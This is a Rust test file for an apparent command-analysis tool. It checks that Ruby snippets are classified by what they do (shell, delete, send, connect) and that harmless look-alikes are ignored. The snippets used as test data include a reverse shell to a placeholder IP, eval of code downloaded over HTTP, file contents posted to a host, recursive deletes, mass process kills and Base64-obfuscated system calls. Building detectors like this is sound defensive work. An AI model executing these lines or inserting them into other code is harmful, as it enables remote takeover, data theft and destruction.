//! Texts of Ruby.

use crate::table::{check, lines};
use checkrein_code::Language;

#[test]
fn acts_and_mentions() {
    check(
        Language::Ruby,
        &[
            ("system('ls -l')", &["shell ls -l"]),
            ("system 'ls', '-l', '/x'", &["run ls | -l | /x"]),
            ("IO.popen('sort', 'w') { |p| p.puts 'x' }", &["shell sort"]),
            ("IO.popen(['ls', '-l'])", &["run ls | -l"]),
            ("load 'job.rb'", &["run ruby | job.rb"]),
            ("Dir.children('/proc').each { |p| Process.kill(9, p.to_i) }", &["kill listed"]),
            ("`ls ~`", &["shell ls ~"]),
            ("puts %x(ls #{ENV['HOME']}/x)", &["shell ls «home»/x"]),
            ("require 'fileutils'; FileUtils.rm_rf('/x')", &["delete -r /x"]),
            ("FileUtils.rm_rf Dir.glob('/x/*')", &["delete -r /x/«*»"]),
            ("include FileUtils; rm_rf '/x'", &["delete -r /x"]),
            ("File.delete 'a', 'b'", &["delete a", "delete b"]),
            ("Dir['/x/*'].each { |f| File.delete(f) }", &["delete /x/«*»"]),
            ("Dir.glob('/x/*').sort.each do |f|\n  File.delete f\nend", &["delete /x/«*»"]),
            ("Dir.children('/x').each { |d| FileUtils.rm_rf(File.join('/x', d)) }", &["delete -r /x/«*»"]),
            ("Pathname.new('/x').rmtree", &["delete -r /x"]),
            ("File.write(\"#{Dir.home}/x\", 'y')", &["write «home»/x", "fill «home»/x : y"]),
            ("File.open('a', 'a') { |f| f.puts 'x' }", &["append a", "fill a : x"]),
            ("File.read('/x')", &["read /x"]),
            (
                "File.rename 'a', 'b'; FileUtils.cp('c', 'd'); File.chmod(0644, 'e')",
                &["move a | b", "copy c | d", "mode 644 e"],
            ),
            ("Kernel.send(:system, 'ls')", &["shell ls"]),
            ("method(:system).call('ls')", &["shell ls"]),
            ("FileUtils.public_send('rm_' + 'rf', '/x')", &["delete -r /x"]),
            ("Object.const_get('File').delete('/x')", &["delete /x"]),
            (
                "require 'open-uri'; eval(URI.open('http://h/x').read)",
                &["connect http://h/x", "evaluate network"],
            ),
            (
                "require 'net/http'; Net::HTTP.post(URI('http://h'), File.read('/k'))",
                &["read /k", "send http://h : /k"],
            ),
            (
                "require 'socket';f=TCPSocket.open('192.0.2.1',9001).to_i;exec sprintf('/bin/sh -i <&%d >&%d',f,f)",
                &["connect 192.0.2.1:9001", "shell /bin/sh -i <&«?» >&«?»"],
            ),
            ("eval \"system('ls')\"", &["shell ls"]),
            ("require 'base64'; eval Base64.decode64('c3lzdGVtKCdscycp')", &["shell ls"]),
            ("ENV.each { |k, v| puts \"#{k}=#{v}\" }", &["environment"]),
            ("Process.kill('KILL', 1)", &["kill"]),
            ("Dir.chdir('/srv')\nFile.delete('x')", &["delete /srv/x"]),
            ("x = 4\ny = x /2; system('ls') #/", &["shell ls"]),
            ("def wipe(p)\n  FileUtils.rm_rf(p)\nend\nwipe('/w')", &["delete -r /w"]),
        ],
    );
    for source in [
        "puts 'rm -rf /'",
        "# system('ls')",
        "puts <<~X\n  system('ls')\nX\n",
        "=begin\nsystem('ls')\n=end\nputs 1",
        "text.gsub(/system\\(.*\\)/, 'x')",
        "x = 10 / 2; puts x / 3",
        "puts 1 if x =~ /system('ls')/",
        "puts [1, 2].map { |x| x * 2 }.join(', ')",
        "puts ENV['PATH'].split(':')",
        "%w[rm -rf /].each { |w| puts w }",
        "h = { system: 1, exec: 2 }; h.delete(:system)",
    ] {
        assert_eq!(lines(Language::Ruby, source), [""; 0], "{source}");
    }
}
